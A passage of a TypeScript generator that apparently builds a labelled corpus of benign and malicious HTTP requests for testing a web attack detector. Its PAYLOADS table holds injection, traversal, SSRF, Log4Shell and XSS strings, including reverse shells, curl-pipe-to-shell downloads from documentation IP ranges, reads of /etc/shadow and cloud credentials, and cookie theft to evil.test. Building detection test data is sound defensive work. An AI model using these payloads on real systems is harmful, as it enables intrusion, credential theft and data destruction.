  () => ({
    kind: 'i18n',
    method: 'POST',
    path: `/api/applications/${uuid()}/sections/narrative`,
    headers: browser(JU, GRANT),
    body: js({
      section: 'project_narrative',
      locale: pick(['de', 'es', 'pt']),
      text: pick([
        'Unser Verein „Lernwerkstatt e.V.“ betreut seit 2019 wöchentlich über 120 Kinder aus Familien mit Fluchterfahrung. Mit der Förderung (beantragt: 38.000 €) möchten wir zwei zusätzliche Lerngruppen einrichten und eine Sozialpädagogin (50 %) einstellen.',
        'La Fundación Semilla trabaja con cooperativas cafeteras en Huila desde 2015. El proyecto propuesto capacitará a 85 productoras en prácticas agroecológicas; presupuesto total: USD 62.000 (cofinanciación: 25 %).',
        'O Instituto Maré atende 240 jovens na Maré (Rio de Janeiro) com oficinas de audiovisual. Pedimos R$ 180.000 para equipamentos e bolsas; metas: 70 % de conclusão e 3 curtas exibidos em festivais.',
      ]),
    }),
  }),
  () => ({
    kind: 'i18n',
    method: 'POST',
    path: '/api/v2/messages',
    headers: sdk(JU),
    body: js({
      pet_id: `pet_${hex(8)}`,
      text: pick([
        '先生、ポチの薬（1日2回）を飲ませたあと、少し吐きました。続けても大丈夫でしょうか？🐶',
        'Доктор, у кота после прививки вялость и температура 39,5 — это нормально? Ест плохо.',
        'सर, मेरे कुत्ते को कल से खांसी है। क्या आज शाम को अपॉइंटमेंट मिल सकता है?',
        'Bonsoir, Frida (lapine, 3 ans) ne mange plus depuis ce matin. Urgence ? 🐰',
      ]),
      urgent: rnd() < 0.3,
    }),
  }),
  () => ({
    kind: 'i18n',
    method: 'PUT',
    path: `/-/v1/packages/${encodeURIComponent(pkgName())}/readme`,
    headers: sdk(JU),
    body: js({
      locale: pick(['ja', 'zh-CN', 'ko']),
      readme: pick([
        '# yaml-guard\n\n安全な YAML パーサーです。\n\n## インストール\n\n```sh\nnpm install yaml-guard\n```\n\n## 使い方\n\n```ts\nimport { parse } from "yaml-guard";\nconst cfg = parse(src);\n```\n',
        '# tiny-router\n\n一个不到 1kb 的浏览器路由库。\n\n```js\nr.on("/users/:id", ({ id }) => render(id));\n```\n\n> 注意：2.x 不支持 IE11。\n',
      ]),
    }),
  }),
  () => ({
    kind: 'rest-write',
    method: 'POST',
    path: '/api/v1/saved-queries/validate',
    headers: sdk(J),
    body: js({
      error: {
        code: '42703',
        message: 'column "totl_cents" does not exist',
        hint: 'Perhaps you meant to reference the column "o.total_cents".',
        position: 87,
      },
      query_id: int(100, 9999),
      client: 'quarry-desktop/1.9.2',
    }),
  }),
  () => ({
    kind: 'rest-write',
    method: 'POST',
    path: '/api/jobs/estimate',
    headers: sdk(J),
    body: js({
      category: 'plumbing',
      answers: {
        'Where is the leak?': 'Under the sink / cabinet',
        'How old is the house?': '1978 (original copper, some PVC)',
        'Water shut off?': 'Yes — main valve at the street (needed a wrench)',
        'Anything else?':
          "There's a weird smell like rotten eggs near the water heater ... gas? or just sulfur in the water?",
      },
    }),
  }),
  () => ({
    kind: 'search',
    method: 'GET',
    path: `/v1/bots/${hex(8)}/logs?${qs({ q: pick(['level:error AND msg:"timeout"', 'intent:unknown', 'user_text:"select plan"', 'http.status:>=500']), from: isoDate(), to: isoDate(), limit: 100 })}`,
    headers: sdk(null),
    body: '',
  }),
  () => ({
    kind: 'search',
    method: 'GET',
    path: `/api/v1/queries/history?${qs({ contains: pick(['JOIN dim_users', 'order by revenue desc', 'union all', 'count(*)']), user: pick(['priya', 'jmueller']), status: pick(['failed', 'success']) })}`,
    headers: browser(null, BI),
    body: '',
  }),
  () => ({
    kind: 'code',
    method: 'POST',
    path: '/-/v1/snippets',
    headers: sdk(J),
    body: js({
      snippet: {
        title: pick(['GitHub Actions publish', 'Dockerfile for CLI']),
        language: 'yaml',
        source: pick([
          "name: publish\non:\n  push:\n    tags: ['v*']\njobs:\n  publish:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - uses: actions/setup-node@v4\n        with: { node-version: 22, registry-url: 'https://registry.pkghub.dev' }\n      - run: npm ci && npm test\n      - run: npm publish --provenance\n        env:\n          NODE_AUTH_TOKEN: ${{ secrets.PKGHUB_TOKEN }}\n",
          'FROM node:22-alpine\nWORKDIR /app\nCOPY package*.json ./\nRUN npm ci --omit=dev && npm cache clean --force\nCOPY dist ./dist\nUSER node\nENTRYPOINT ["node", "dist/cli.js"]\nCMD ["--help"]\n',
        ]),
      },
    }),
  }),
  () => ({
    kind: 'merge-patch',
    method: 'PATCH',
    path: `/v1/bots/${hex(8)}`,
    headers: browser('application/merge-patch+json', BOT),
    body: js({
      persona: { name: 'Beacon', tone: pick(['friendly', 'concise']), emoji: true },
      fallback_message: "Hmm, I'm not sure about that one 🤔 — want me to connect you with a human?",
      business_hours: { tz: 'Europe/Dublin', mon_fri: '09:00-18:00', sat: null },
    }),
  }),
  () => ({
    kind: 'webhook',
    method: 'POST',
    path: '/hooks/zendesk',
    headers: {
      'user-agent': 'Zendesk Webhook',
      'content-type': J,
      'x-zendesk-webhook-signature': b64(hex(32)),
      'x-zendesk-webhook-signature-timestamp': isoDate(),
    },
    body: js({
      type: 'zen:event-type:ticket.comment_added',
      id: uuid(),
      time: isoDate(),
      detail: {
        id: String(int(10000, 99999)),
        subject: pick(['Refund not received', "Can't log in", 'Bot keeps looping']),
        requester_id: String(int(1e9, 9e9)),
      },
      event: {
        comment: {
          body: pick([
            "Still nothing. It's been 12 days. Order #A-22913.",
            'Attached HAR file. The /login call returns 401 {"error":"invalid_grant"}.',
            'Thanks, that worked!',
          ]),
          public: true,
        },
      },
    }),
  }),
  () => ({
    kind: 'webhook',
    method: 'POST',
    path: '/hooks/docusign',
    headers: { 'user-agent': 'DocuSign Connect', 'content-type': J, 'x-docusign-signature-1': b64(hex(32)) },
    body: js({
      event: 'envelope-completed',
      apiVersion: 'v2.1',
      uri: `/restapi/v2.1/accounts/${uuid()}/envelopes/${uuid()}`,
      generatedDateTime: isoDate(),
      data: {
        envelopeId: uuid(),
        envelopeSummary: {
          status: 'completed',
          emailSubject: 'Grant Agreement – Riverbend Youth Collective (FY26)',
          recipients: {
            signers: [{ name: pick(PEOPLE), email: 'ed@riverbend.example.org', status: 'completed' }],
          },
        },
      },
    }),
  }),
  () => ({
    kind: 'form',
    method: 'POST',
    path: '/api/v2/intake',
    headers: browser('application/x-www-form-urlencoded', VET),
    body: qs({
      owner_name: pick(PEOPLE),
      phone: `(503) 555-${int(1000, 9999)}`,
      pet_name: pick(PET_NAMES),
      species: pick(SPECIES),
      meds: pick(['Apoquel 16mg 1/2 tab SID', 'none', 'Gabapentin 100mg PRN (before car rides)']),
      history:
        'Spayed 2022. Allergic to chicken?? (itchy paws). Previous vet: Eastside Animal Hospital - records to follow',
      consent: 'yes',
    }),
  }),
  () => ({
    kind: 'cms-html',
    method: 'PUT',
    path: `/api/v2/records/${int(10000, 99999)}/soap`,
    headers: browser(J, VET),
    body: js({
      note: {
        author: `Dr. ${pick(PEOPLE)}`,
        html:
          '<p><strong>Discharge instructions</strong> for <u>' +
          pick(PET_NAMES) +
          '</u>:</p><ul><li>Cone on for <strong>10–14 days</strong> (yes, even at night 😅)</li><li>No baths / swimming</li><li>Call us if the incision is red, swollen or oozing</li></ul><p>Meds: Carprofen 25 mg — <em>with food</em>, q12h × 5 days.</p><hr><p style="font-size:12px;color:#666">Paws &amp; Claws Eastside · (503) 555-0143</p>',
      },
      status: 'final',
    }),
  }),
);

const clean: CorpusRequest[] = [];
const CLEAN_TARGET = 450;
for (let i = 0; clean.length < CLEAN_TARGET; i++) {
  const d = (T[i % T.length] as Tpl)();
  clean.push({
    id: `h17c${clean.length + 1}`,
    kind: d.kind,
    method: d.method,
    path: d.path,
    headers: d.headers,
    body: d.body,
  });
}

// ---------------------------------------------------------------- attacks
interface Payload {
  /** string form (for string sinks, headers, query, forms) */
  s: string;
  /** structured JSON value (nosql operators, prototype-pollution objects) used for JSON-body techniques */
  o?: unknown;
  /** raw `key=value` query/form form for bracket-syntax attacks */
  q?: string;
}
interface Target {
  method: string;
  path: string;
  field: string;
  extra: Record<string, unknown>;
  qpath: string;
  qparam: string;
  site: string;
  gql: string;
}
const tg = (
  method: string,
  path: string,
  field: string,
  extra: Record<string, unknown>,
  qpath: string,
  qparam: string,
  site: string,
  gql: string,
): Target => ({ method, path, field, extra, qpath, qparam, site, gql });
const P = (s: string, o?: unknown, q?: string): Payload => {
  const p: Payload = { s };
  if (o !== undefined) p.o = o;
  if (q !== undefined) p.q = q;
  return p;
};
const JP = (txt: string): unknown => JSON.parse(txt);

const PAYLOADS: Record<string, Payload[]> = {
  sql: [
    P("' OR '1'='1' -- "),
    P('1 UNION SELECT username,password_hash,NULL,NULL FROM users--'),
    P("x'; DROP TABLE appointments;--"),
    P("1' AND (SELECT 4821 FROM (SELECT(SLEEP(5)))kQzT)-- aBcd"),
    P("'||(SELECT pg_sleep(6))||'"),
    P('1) OR 1=1 LIMIT 1 OFFSET 0 --'),
    P("admin'-- -"),
    P("' UNION ALL SELECT NULL,NULL,version(),current_user--"),
    P('1 AND extractvalue(1,concat(0x7e,(SELECT @@version),0x7e))'),
    P("'; EXEC master..xp_cmdshell 'powershell -c iwr http://203.0.113.50/a.ps1|iex'--"),
    P("1' ORDER BY 12-- -"),
    P("(CASE WHEN (SELECT substr(password,1,1) FROM users WHERE id=1)='a' THEN 1 ELSE 1/0 END)"),
    P("'; COPY (SELECT '') TO PROGRAM 'curl -s http://198.51.100.9/x|sh';--"),
    P("1; WAITFOR DELAY '0:0:7'--"),
    P("name) VALUES ('x'); UPDATE users SET role='admin' WHERE email='me@evil.test';--"),
    P(
      "-1' UNION SELECT table_name,column_name FROM information_schema.columns WHERE table_schema=database()#",
    ),
    P("1 AND 1=(SELECT COUNT(*) FROM sqlite_master WHERE type='table' AND name LIKE 'u%')"),
  ],
  nosql: [
    P('{"$ne":null}', JP('{"$ne":null}'), 'email[$ne]=x'),
    P('{"$gt":""}', JP('{"$gt":""}'), 'password[$gt]='),
    P('{"$regex":"^a.*","$options":"si"}', JP('{"$regex":"^a.*","$options":"si"}'), 'username[$regex]=^adm'),
    P("'; return true; var x='", JP('{"$where":"sleep(5000) || true"}'), '$where=sleep(5000)'),
    P(
      '{"$where":"this.role == \'admin\' || true"}',
      JP('{"$where":"this.role == \'admin\' || true"}'),
      'filter[$where]=1==1',
    ),
    P('{"$nin":[""]}', JP('{"$nin":[""]}'), 'token[$nin][]=x'),
    P("' || '1'=='1", JP('{"$exists":true}'), 'reset_token[$exists]=true'),
    P(
      '{"$expr":{"$function":{"body":"function(){return true}","args":[],"lang":"js"}}}',
      JP('{"$expr":{"$function":{"body":"function(){sleep(4000);return true}","args":[],"lang":"js"}}}'),
      'q[$expr][$eq][]=1',
    ),
    P(
      '{"$or":[{"role":"admin"},{"_id":{"$ne":null}}]}',
      JP('{"$or":[{"role":"admin"},{"_id":{"$ne":null}}]}'),
      'status[$in][]=paid&status[$in][]=refunded&owner[$ne]=me',
    ),
    P(
      '[{"$lookup":{"from":"users","localField":"owner","foreignField":"_id","as":"u"}}]',
      JP(
        '[{"$lookup":{"from":"users","localField":"owner","foreignField":"_id","as":"u"}},{"$project":{"u.password":1}}]',
      ),
      'pipeline[0][$lookup][from]=users',
    ),
    P(
      '{"$where":"function(){var d=new Date();while(new Date()-d<5000);return true}"}',
      JP('{"$where":"function(){var d=new Date();while(new Date()-d<5000);return true}"}'),
      'pin[$regex]=^1',
    ),
  ],
  template: [
    P('{{7*7}}${7*7}<%= 7*7 %>'),
    P(
      "{{constructor.constructor('return process')().mainModule.require('child_process').execSync('id').toString()}}",
    ),
    P(
      "{{''.__class__.__mro__[1].__subclasses__()[408]('cat /etc/passwd',shell=True,stdout=-1).communicate()}}",
    ),
    P('${T(java.lang.Runtime).getRuntime().exec("curl http://198.51.100.7/s.sh -o /tmp/s")}'),
    P("{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}"),
    P('<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}'),
    P("*{T(java.lang.Runtime).getRuntime().exec('whoami')}"),
    P(
      "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('cat /etc/passwd')\")()}}",
    ),
    P('#set($rt=$class.inspect("java.lang.Runtime").type.getRuntime())$rt.exec("id")'),
    P("{{self._TemplateReference__context.cycler.__init__.__globals__.os.popen('id').read()}}"),
    P('{{config.items()}}{{settings.SECRET_KEY}}'),
    P("<%= require('child_process').execSync('env').toString() %>"),
    P(
      "{% for x in ().__class__.__base__.__subclasses__() %}{% if 'warning' in x.__name__ %}{{x()._module.__builtins__['__import__']('os').popen('id').read()}}{% endif %}{% endfor %}",
    ),
    P('#{"".getClass().forName("java.lang.Runtime").getMethod("getRuntime").invoke(null).exec("id")}'),
  ],
  command: [
    P('; cat /etc/passwd'),
    P('127.0.0.1 | id'),
    P('$(curl -fsSL http://203.0.113.7/x.sh | sh)'),
    P('`wget -qO- http://198.51.100.23/bot -O /tmp/.b; chmod +x /tmp/.b; /tmp/.b`'),
    P('x && nslookup $(whoami).c3kq9.oast.fun'),
    P(';bash -i >& /dev/tcp/198.51.100.4/4444 0>&1'),
    P(
      '| powershell -NoP -NonI -W Hidden -Enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA',
    ),
    P('track.mp3\nid'),
    P(';${IFS}cat${IFS}/etc/shadow'),
    P('main; rm -rf / --no-preserve-root'),
    P('$(sleep 10)'),
    P("() { :; }; /bin/bash -c 'curl http://203.0.113.66/sh | bash'"),
    P('--output=/tmp/x; nc -e /bin/sh 198.51.100.4 9001'),
    P('a.png" ; python3 -c \'import os;os.system("id")\' #'),
    P('|| ping -c 30 127.0.0.1'),
  ],
  'path-traversal': [
    P('../../../../etc/passwd'),
    P('..%2f..%2f..%2f..%2fetc%2fpasswd'),
    P('....//....//....//etc/shadow'),
    P('..\\..\\..\\..\\windows\\win.ini'),
    P('/proc/self/environ'),
    P('../../../../app/.env'),
    P('%2e%2e/%2e%2e/%2e%2e/root/.ssh/id_rsa'),
    P('..%c0%af..%c0%af..%c0%afetc/passwd'),
    P('/var/www/uploads/../../../etc/shadow'),
    P('..;/..;/WEB-INF/web.xml'),
    P('../../../../../../home/node/.npmrc'),
    P('templates/../../../../../proc/1/cmdline'),
    P('file/../../../../../../var/run/secrets/kubernetes.io/serviceaccount/token'),
    P('..%252f..%252f..%252fetc%252fpasswd'),
  ],
  ssrf: [
    P('http://169.254.169.254/latest/meta-data/iam/security-credentials/'),
    P('http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token'),
    P('http://127.0.0.1:6379/'),
    P('gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A'),
    P('http://[::ffff:a9fe:a9fe]/latest/meta-data/'),
    P('http://2852039166/latest/user-data'),
    P('http://0x7f000001:8080/actuator/env'),
    P('file:///etc/passwd'),
    P('http://localhost:2375/containers/json'),
    P('http://169.254.169.254.nip.io/latest/meta-data/'),
    P('dict://127.0.0.1:11211/stats'),
    P('http://100.100.100.200/latest/meta-data/ram/security-credentials/'),
    P('http://[fd00:ec2::254]/latest/meta-data/'),
    P('https://kubernetes.default.svc/api/v1/namespaces/default/secrets'),
    P('http://127.1:9200/_cat/indices?v'),
    P('http://169.254.170.2/v2/credentials/'),
    P('http://internal-admin.svc.cluster.local/admin/users'),
  ],
  'prototype-pollution': [
    P('{"__proto__":{"isAdmin":true}}', JP('{"__proto__":{"isAdmin":true}}'), '__proto__[isAdmin]=true'),
    P(
      '{"constructor":{"prototype":{"role":"admin"}}}',
      JP('{"constructor":{"prototype":{"role":"admin"}}}'),
      'constructor[prototype][role]=admin',
    ),
    P(
      '{"__proto__":{"shell":"/proc/self/exe","NODE_OPTIONS":"--require /proc/self/environ"}}',
      JP('{"__proto__":{"shell":"/proc/self/exe","NODE_OPTIONS":"--require /proc/self/environ"}}'),
      '__proto__[shell]=/proc/self/exe',
    ),
    P(
      '{"__proto__":{"outputFunctionName":"x;process.mainModule.require(\'child_process\').execSync(\'id\');s"}}',
      JP(
        '{"__proto__":{"outputFunctionName":"x;process.mainModule.require(\'child_process\').execSync(\'id\');s"}}',
      ),
      '__proto__[outputFunctionName]=x;return process;//',
    ),
    P(
      '{"__proto__":{"allowedTags":["script"],"allowVulnerableTags":true}}',
      JP('{"__proto__":{"allowedTags":["script"],"allowVulnerableTags":true}}'),
      '__proto__[allowedTags][]=script',
    ),
    P(
      '{"__proto__":{"status":200,"verified":true}}',
      JP('{"__proto__":{"status":200,"verified":true}}'),
      '__proto__.verified=true',
    ),
    P(
      '{"constructor":{"prototype":{"execArgv":["--eval=require(\'child_process\').execSync(\'id\')"]}}}',
      JP('{"constructor":{"prototype":{"execArgv":["--eval=require(\'child_process\').execSync(\'id\')"]}}}'),
      'constructor.prototype.execArgv[]=--inspect=0.0.0.0',
    ),
  ],
  log4shell: [
    P('${jndi:ldap://198.51.100.23:1389/Exploit}'),
    P('${${lower:j}ndi:${lower:l}dap://c3kq9.oast.me/a}'),
    P('${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://203.0.113.9:1099/obj}'),
    P('${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.x7.interact.sh}'),
    P('${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//198.51.100.5/z}'),
    P('${jndi:ldaps://log.attacker-cdn.net/o=tomcat}'),
    P('${jndi:${lower:l}${lower:d}a${lower:p}://${hostName}.d4.burpcollaborator.net/}'),
    P('${${upper:j}ndi:iiop://203.0.113.77/a}'),
    P('${jndi:rmi://${sys:java.version}.${env:USER}.c3kq9.oast.fun/x}'),
    P("${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://198.51.100.23/p}"),
    P('${j${k8s:k5:-ND}i${sd:k5:-:}ldap://198.51.100.8/q}'),
  ],
  xss: [
    P("<script>fetch('https://x.ss/c?'+document.cookie)</script>"),
    P('<img src=x onerror=alert(document.domain)>'),
    P('<svg/onload=eval(atob("ZmV0Y2goJy8vZXZpbC50ZXN0Lz9jPScrZG9jdW1lbnQuY29va2llKQ=="))>'),
    P('javascript:alert(document.cookie)//'),
    P('"><iframe srcdoc="<script>parent.location=\'//evil.test/?\'+parent.document.cookie</script>">'),
    P('<details open ontoggle=fetch(`//evil.test/${localStorage.token}`)>'),
    P('<a href="jav&#x09;ascript:alert(1)">click for discount</a>'),
    P(
      '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
    ),
    P('<body onpageshow=alert(1)>'),
    P('"><input autofocus onfocus=alert(document.cookie) x="'),
    P("'-alert(String.fromCharCode(88,83,83))-'"),
    P('<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>'),
    P('<video><source onerror="import(\'//evil.test/x.js\')">'),
    P('</textarea><script src=//xss.report/c/h17></script>'),
  ],
};

const TARGETS: Record<string, Target[]> = {
  sql: [
    tg(
      'POST',
      '/api/v2/pets/search',
      'name',
      { clinic_id: 'cl_31', species: 'dog' },
      '/api/v2/pets',
      'q',
      VET,
      'Pet',
    ),
    tg(
      'POST',
      '/v1/bookings/lookup',
      'booking_ref',
      { location: 'Dublin' },
      '/v1/bookings',
      'ref',
      COWORK,
      'Booking',
    ),
    tg(
      'POST',
      '/api/v1/queries/run',
      'order_by',
      { saved_query_id: 4412, max_rows: 100 },
      '/api/v1/reports/revenue',
      'sort',
      BI,
      'Report',
    ),
    tg('POST', '/api/pros/filter', 'zip', { service: 'plumbing' }, '/api/pros', 'zip', HOME, 'ProFilter'),
    tg(
      'POST',
      '/-/v1/packages/lookup',
      'name',
      { include: 'versions' },
      '/-/v1/search',
      'text',
      PKG,
      'Package',
    ),
    tg(
      'POST',
      '/v1/conversations/export',
      'customer_email',
      { format: 'csv' },
      '/v1/conversations',
      'customer',
      BOT,
      'Conversation',
    ),
  ],
  nosql: [
    tg(
      'POST',
      '/api/v2/auth/login',
      'password',
      { email: 'front-desk@pawsandclaws.vet' },
      '/api/v2/owners',
      'email',
      VET,
      'Login',
    ),
    tg(
      'POST',
      '/v1/access/verify-pin',
      'pin',
      { door: 'main', member: 'mem_8812' },
      '/v1/members',
      'badge',
      COWORK,
      'AccessCheck',
    ),
    tg(
      'POST',
      '/v3/auth/reset/confirm',
      'reset_token',
      { new_password: 'Winter2026!' },
      '/v3/users',
      'username',
      MUSIC,
      'Reset',
    ),
    tg('POST', '/api/threads/find', 'owner', { status: 'open' }, '/api/threads', 'owner', HOME, 'Threads'),
    tg('POST', '/-/v1/tokens/validate', 'token', { scope: 'publish' }, '/-/v1/tokens', 'token', PKG, 'Token'),
    tg(
      'POST',
      '/api/applications/query',
      'status',
      { program: 'arts-access' },
      '/api/applications',
      'status',
      GRANT,
      'Applications',
    ),
  ],
  template: [
    tg(
      'POST',
      '/api/v2/reminders/preview',
      'text',
      { template: 'vaccine_due', channel: 'sms' },
      '/api/v2/reminders/preview',
      'text',
      VET,
      'Reminder',
    ),
    tg(
      'POST',
      '/v1/bots/b_21/responses',
      'response',
      { intent: 'billing.refund' },
      '/v1/bots/b_21/simulate',
      'utterance',
      BOT,
      'Response',
    ),
    tg(
      'POST',
      '/api/quotes/email-preview',
      'greeting',
      { quote_id: 'q_771' },
      '/api/quotes/render',
      'greeting',
      HOME,
      'QuotePreview',
    ),
    tg(
      'PUT',
      '/v1/members/me',
      'display_name',
      { company: 'Fjord Studio' },
      '/v1/badges/print',
      'name',
      COWORK,
      'Member',
    ),
    tg(
      'POST',
      '/api/applications/letters',
      'salutation',
      { type: 'award' },
      '/api/letters/preview',
      'salutation',
      GRANT,
      'Letter',
    ),
    tg(
      'POST',
      '/api/v1/alerts',
      'message_template',
      { name: 'Claims spike', cron: '*/15 * * * *' },
      '/api/v1/alerts/test',
      'message',
      BI,
      'Alert',
    ),
  ],
  command: [
    tg(
      'POST',
      '/v1/access/locks/diagnose',
      'host',
      { lock_id: 2231 },
      '/v1/access/ping',
      'host',
      COWORK,
      'Diagnose',
    ),
    tg(
      'POST',
      '/v3/uploads/transcode',
      'filename',
      { format: 'mp3', bitrate: 320 },
      '/v3/transcode',
      'file',
      MUSIC,
      'Transcode',
    ),
    tg(
      'POST',
      '/api/v1/dbt/run',
      'select',
      { target: 'prod', full_refresh: false },
      '/api/v1/dbt/run',
      'select',
      BI,
      'DbtRun',
    ),
    tg(
      'POST',
      '/-/v1/builds',
      'git_ref',
      { repo: 'https://github.com/acme/yaml-guard' },
      '/-/v1/builds',
      'ref',
      PKG,
      'Build',
    ),
    tg(
      'POST',
      '/api/v2/imaging/convert',
      'dicom_file',
      { pet_id: 'pet_2291' },
      '/api/v2/imaging/thumb',
      'file',
      VET,
      'Imaging',
    ),
    tg(
      'POST',
      '/api/jobs/photos/resize',
      'image',
      { width: 800 },
      '/api/photos/resize',
      'src',
      HOME,
      'Resize',
    ),
  ],
  'path-traversal': [
    tg(
      'POST',
      '/api/v1/claims/attachments/fetch',
      'path',
      { claim_id: 'CLM-33018' },
      '/api/v1/files',
      'path',
      VET,
      'Attachment',
    ),
    tg(
      'POST',
      '/api/uploads/download',
      'file',
      { application_id: 'a_7712' },
      '/api/uploads/download',
      'file',
      GRANT,
      'Download',
    ),
    tg(
      'POST',
      '/-/v1/packages/yaml-guard/files',
      'entry',
      { version: '2.4.1' },
      '/-/v1/packages/yaml-guard/raw',
      'file',
      PKG,
      'PackageFile',
    ),
    tg(
      'POST',
      '/api/v1/exports',
      'filename',
      { dashboard_id: 211, format: 'csv' },
      '/api/v1/exports/get',
      'name',
      BI,
      'Export',
    ),
    tg('POST', '/v3/lyrics/import', 'lrc_path', { track: 't_88' }, '/v3/lyrics/file', 'lrc', MUSIC, 'Lyrics'),
    tg(
      'POST',
      '/v1/kb/templates/render',
      'template',
      { locale: 'en' },
      '/v1/kb/templates',
      'name',
      BOT,
      'KbTemplate',
    ),
  ],
  ssrf: [
    tg(
      'POST',
      '/api/v1/webhooks',
      'url',
      { events: ['dashboard.refreshed'] },
      '/api/v1/webhooks/test',
      'url',
      BI,
      'Webhook',
    ),
    tg(
      'PUT',
      '/v3/me/profile',
      'avatar_url',
      { display_name: 'dj marta' },
      '/v3/images/proxy',
      'url',
      MUSIC,
      'Profile',
    ),
    tg(
      'POST',
      '/-/v1/packages/import',
      'tarball_url',
      { name: 'left-padder' },
      '/-/v1/mirror',
      'from',
      PKG,
      'Import',
    ),
    tg(
      'POST',
      '/api/links/preview',
      'url',
      { thread_id: 't_91' },
      '/api/links/unfurl',
      'url',
      HOME,
      'Unfurl',
    ),
    tg(
      'POST',
      '/v1/bots/b_21/knowledge-sources',
      'source_url',
      { crawl_depth: 2 },
      '/v1/bots/b_21/fetch',
      'src',
      BOT,
      'Knowledge',
    ),
    tg(
      'POST',
      '/api/v2/records/import',
      'lab_result_url',
      { pet_id: 'pet_7731', lab: 'IDEXX' },
      '/api/v2/labs/fetch',
      'url',
      VET,
      'LabImport',
    ),
  ],
  'prototype-pollution': [
    tg(
      'PATCH',
      '/v1/members/me/preferences',
      'preferences',
      { desk_side: 'window' },
      '/v1/members/me/preferences',
      'pref',
      COWORK,
      'Prefs',
    ),
    tg(
      'PUT',
      '/api/v1/dashboards/211/settings',
      'settings',
      { theme: 'dark' },
      '/api/v1/dashboards/211',
      'opts',
      BI,
      'DashboardSettings',
    ),
    tg(
      'POST',
      '/v1/bots/b_21/config',
      'config',
      { language: 'en' },
      '/v1/bots/b_21/config',
      'cfg',
      BOT,
      'BotConfig',
    ),
    tg('PATCH', '/v3/me/settings', 'settings', { crossfade_s: 5 }, '/v3/me/settings', 's', MUSIC, 'Settings'),
    tg(
      'POST',
      '/-/v1/packages/yaml-guard/metadata',
      'metadata',
      { keywords: ['yaml'] },
      '/-/v1/packages/yaml-guard',
      'meta',
      PKG,
      'Meta',
    ),
    tg(
      'PATCH',
      '/api/v2/owners/me',
      'profile',
      { phone: '+1-503-555-0101' },
      '/api/v2/owners/me',
      'p',
      VET,
      'Owner',
    ),
  ],
  log4shell: [
    tg(
      'POST',
      '/api/v2/appointments',
      'reason',
      { clinic_id: 'cl_12', slot: '2026-04-02T10:00:00Z' },
      '/api/v2/appointments',
      'reason',
      VET,
      'Appointment',
    ),
    tg(
      'POST',
      '/v1/bookings',
      'title',
      { resource: { type: 'desk', id: 'B-12' } },
      '/v1/availability',
      'location',
      COWORK,
      'Booking',
    ),
    tg('POST', '/v3/search/log', 'query', { market: 'US' }, '/v3/search', 'q', MUSIC, 'Search'),
    tg(
      'POST',
      '/api/jobs',
      'title',
      { category: 'plumbing', zip: '78704' },
      '/api/pros',
      'service',
      HOME,
      'Job',
    ),
    tg(
      'POST',
      '/v1/bots/b_21/messages',
      'text',
      { conversation_id: 'c_881' },
      '/v1/conversations',
      'q',
      BOT,
      'Message',
    ),
    tg(
      'POST',
      '/api/applications/a_31/sections/narrative',
      'text',
      { section: 'summary' },
      '/api/opportunities',
      'q',
      GRANT,
      'Narrative',
    ),
  ],
  xss: [
    tg('POST', '/api/pros/p_441/reviews', 'title', { rating: 5 }, '/api/pros', 'q', HOME, 'Review'),
    tg('POST', '/v3/me/playlists', 'name', { public: true }, '/v3/search', 'q', MUSIC, 'Playlist'),
    tg(
      'PUT',
      '/v1/members/me',
      'company',
      { display_name: 'Ana' },
      '/v1/members',
      'company',
      COWORK,
      'Member',
    ),
    tg(
      'POST',
      '/-/v1/packages/tiny-router/issues',
      'title',
      { labels: ['bug'] },
      '/-/v1/search',
      'text',
      PKG,
      'Issue',
    ),
    tg(
      'POST',
      '/api/v2/pets',
      'name',
      { species: 'cat', dob: '2021-05-01' },
      '/api/v2/pets',
      'q',
      VET,
      'PetCreate',
    ),
    tg(
      'POST',
      '/api/v1/dashboards/211/comments',
      'author_display',
      { text: 'see tile 3' },
      '/api/v1/catalog/search',
      'q',
      BI,
      'Comment',
    ),
  ],
};

const SENTENCES: Record<string, ((x: string) => string)[]> = {
  [VET]: [
    (x) =>
      `Hi, Luna's microchip number on the insurance form is ${x} — can you update her file before Thursday's visit?`,
    (x) => `Please forward the X-ray to ${x} as the referral clinic asked, thanks!`,
  ],
  [COWORK]: [
    (x) => `My badge stopped working again. The app shows member ref ${x} if that helps.`,
    (x) => `Could you book the Atelier for us? Company name on the invoice should be ${x}. Cheers`,
  ],
  [GRANT]: [
    (x) => `Our previous award is documented at ${x}; we would be happy to share the final report.`,
    (x) => `The program officer asked us to reference ${x} in the summary section, so adding it here.`,
  ],
  [MUSIC]: [
    (x) => `Hey, can you add this to the playlist notes: ${x} — thx 🙏`,
    (x) => `Searching for ${x} gives me nothing, but the album is definitely on the app?`,
  ],
  [HOME]: [
    (x) => `Hi! The part number on the old valve is ${x}, can you bring a replacement tomorrow?`,
    (x) => `Photos of the leak are here: ${x} — let me know if you need more angles.`,
  ],
  [BI]: [
    (x) => `Tile 3 broke after the refresh, error was: ${x}. Can someone from data-eng look?`,
    (x) => `Please rerun the nightly model with ${x} so finance gets the March numbers.`,
  ],
  [BOT]: [
    (x) => `Bonjour, mon identifiant est ${x}, merci de vérifier mon dossier.`,
    (x) => `order number is ${x} pls help I was charged twice`,
  ],
  [PKG]: [
    (x) => `Repro: install the package, then call it with ${x} and it crashes on Node 22.`,
    (x) => `Thanks for the release! Small thing: the changelog links to ${x} which looks wrong.`,
  ],
};

const HEADER_NAMES: Record<string, string[]> = {
  sql: ['x-forwarded-for', 'referer', 'x-client-id', 'x-tenant'],
  nosql: ['x-filter', 'x-session-query'],
  template: ['user-agent', 'x-forwarded-host', 'x-display-name'],
  command: ['user-agent', 'x-forwarded-for', 'referer'],
